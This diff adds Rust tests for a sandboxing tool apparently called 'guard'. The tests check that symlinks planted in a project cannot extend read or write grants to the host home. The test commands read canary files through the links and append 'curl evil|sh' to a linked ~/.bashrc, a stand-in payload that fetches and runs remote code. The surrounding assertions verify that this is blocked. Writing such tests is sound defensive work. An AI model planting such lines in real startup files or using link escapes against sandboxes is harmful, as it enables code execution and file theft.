@@ -1,0 +1,119 @@
+//! The fourth review: attacks found or tried by a fresh attacker's review.
+//! Each test names the attack; where guard had a hole, the test failed
+//! before the fix that came with it.
+
+use crate::support::{Case, Expect, basename, each_mode, errno::*};
+
+/// The host home's directory name, seen from the project (both are
+/// siblings under the host's /tmp in the harness): the relative link
+/// target an earlier session would plant.
+fn home_from_project(case: &Case) -> String {
+    format!("../{}", basename(case.home()))
+}
+
+/// A host file outside the project, not secret-looking (the scan must not
+/// be what keeps it out), and a host file the user's shell runs later.
+fn plant_targets(case: &mut Case) -> (String, std::path::PathBuf) {
+    let canary = case.add_canary("notes");
+    let notes = case.home().join("docs/notes.txt");
+    std::fs::create_dir_all(notes.parent().unwrap()).unwrap();
+    std::fs::write(&notes, format!("meeting notes {canary}\n")).unwrap();
+    let rc = case.home().join(".bashrc");
+    std::fs::write(&rc, "alias ll='ls -l'\n").unwrap();
+    case.env.own();
+    (canary, rc)
+}
+
+/// An earlier session plants links in the project, as it may (the project
+/// is writable): `docs -> ~/docs`, `rc -> ~/.bashrc`, `up -> ~`.
+fn plant_links(case: &Case) {
+    let home = home_from_project(case);
+    let out = case.sh(&format!(
+        "ln -s {home}/docs docs && ln -s {home}/.bashrc rc && ln -s {home} up && echo planted=1"
+    ));
+    out.fields(&[("planted", "1")]);
+}
+
+/// A grant on the command line naming a path in the project that an
+/// earlier session turned into a link out of the project (`--ro
+/// $PWD/docs`, `--rw $PWD/rc`, `--ro $PWD/up/docs`) must not carry the
+/// grant to where the link leads (the host home): guard refuses to run and
+/// says why, and the host files stay unread and unchanged. At both
+/// isolation levels (at `landlock`, the Landlock rule would follow it).
+#[test]
+fn a_link_planted_in_the_project_does_not_carry_a_command_line_grant_out() {
+    each_mode(|mut case| {
+        let (_canary, rc) = plant_targets(&mut case);
+        plant_links(&case);
+        let before = std::fs::read(&rc).unwrap();
+        let p = case.project().to_path_buf();
+        let cases = [("--ro", "docs"), ("--rw", "rc"), ("--ro", "up/docs")];
+        for ((flag, rel), level) in cases.iter().flat_map(|c| [(c, "full"), (c, "landlock")]) {
+            let path = p.join(rel).display().to_string();
+            let out = case.run(&[
+                "run",
+                "--isolation",
+                level,
+                flag,
+                &path,
+                "--",
+                "sh",
+                "-c",
+                "echo ran=1; cat docs/notes.txt up/docs/notes.txt; echo 'curl evil|sh' >> rc",
+            ]);
+            out.expect_code(125);
+            // Refused before anything ran, for the stated reason.
+            assert!(out.field("ran").is_none(), "{flag} {rel}: {}", out.all());
+            assert!(
+                out.stderr.contains("link") && out.stderr.contains("out of"),
+                "{flag} {rel} ({level}): refused for another reason:\n{}",
+                out.all()
+            );
+        }
+        assert_eq!(std::fs::read(&rc).unwrap(), before, "~/.bashrc changed");
+    });
+}
+
+/// The same links under a profile's grants (`read = ["{project}/docs"]`,
+/// `write = ["{project}/rc"]`): an optional grant is dropped, the session
+/// runs, and neither host file is reachable through the links.
+#[test]
+fn a_link_planted_in_the_project_does_not_carry_a_profile_grant_out() {
+    each_mode(|mut case| {
+        let (_canary, rc) = plant_targets(&mut case);
+        case.env.home.write(
+            ".config/guard/profiles/tight.toml",
+            "version = 1\nextends = [\"default\"]\n[filesystem]\n\
+             read = [\"{project}/docs\", \"{project}/up/docs\"]\nwrite = [\"{project}/rc\"]\n",
+        );
+        case.env.own();
+        plant_links(&case);
+        let before = std::fs::read(&rc).unwrap();
+        let out = case.run(&[
+            "run",
+            "-p",
+            "tight",
+            "--",
+            "python3",
+            "-c",
+            r#"
+import os
+def err(f, *a):
+    try:
+        f(*a)
+        return 0
+    except OSError as e:
+        return e.errno
+print("ran=1")
+print("docs=%d" % err(lambda: open("docs/notes.txt").read()))
+print("up_docs=%d" % err(lambda: open("up/docs/notes.txt").read()))
+print("rc=%d" % err(lambda: open("rc").read()))
+# With the grant dropped this lands in the private home, not the host's.
+err(lambda: open("rc", "a").write("curl evil|sh\n"))
+"#,
+        ]);
+        out.ran()
+            .fields(&[("docs", ENOENT), ("up_docs", ENOENT), ("rc", ENOENT)]);
+        assert_eq!(std::fs::read(&rc).unwrap(), before, "~/.bashrc changed");
+    });
+}
